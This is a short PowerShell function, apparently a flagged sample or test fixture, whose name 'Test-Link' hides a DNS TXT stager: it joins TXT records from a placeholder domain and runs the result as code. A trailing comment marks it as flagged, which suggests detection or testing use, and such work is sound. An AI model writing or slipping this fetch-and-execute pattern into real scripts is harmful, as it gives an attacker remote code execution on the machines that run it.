function Test-Link {
    $text = -join (0..3 | ForEach-Object { (Resolve-DnsName "$_.h.example.invalid" -Type TXT).Strings })
    . ([ScriptBlock]::Create($text)) # gatehouse: flagged
}
